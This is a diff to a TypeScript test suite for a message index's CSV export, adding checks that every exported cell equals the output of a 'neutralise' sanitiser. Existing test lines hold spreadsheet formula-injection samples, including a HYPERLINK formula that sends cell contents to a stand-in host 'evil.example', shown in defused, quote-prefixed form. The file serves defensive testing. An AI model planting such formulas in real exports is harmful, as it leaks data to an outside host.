@@ -10,6 +10,7 @@ import type { RequestContext } from '../http-types.ts'
 import { DEMO_CREDENTIALS } from '../simulator/dataset.ts'
 import { createSimulator, type Simulator } from '../simulator/simulator.ts'
 import { parseIndexConfig } from './config.ts'
+import { neutralise } from './csv.ts'
 import { apiDateToIso } from './parse.ts'
 import { createIndex, type MessageIndex } from './routes.ts'
 import { createSyncer } from './sync.ts'
@@ -467,6 +468,15 @@ describe.each(ENGINES)('message index on %s', (engine) => {
       expect(bodies).toContain(`'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`)
       expect(bodies).toContain("'@SUM(A1:A2)")
       expect(bodies).toContain('nulbyte')
+      // Every text cell is exactly what csv.ts makes of the upstream's value (bodies come by id,
+      // other cells through a cache: both must keep the same rules).
+      const truth = new Map(all.filter((m) => m.number === n7).map((m) => [String(m.system_id), m]))
+      for (const row of rows) {
+        const m = truth.get(row.system_id!)!
+        expect(row.body).toBe(neutralise(m.body))
+        expect(row.party).toBe(neutralise(m.phone))
+        expect(row.status).toBe(neutralise(m.status))
+      }
       expect(rows[0]!.date_utc).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$/)
       // 2026-11-20 is winter time in Paris: UTC+1.
       const utc = Date.parse(rows[0]!.date_utc!)
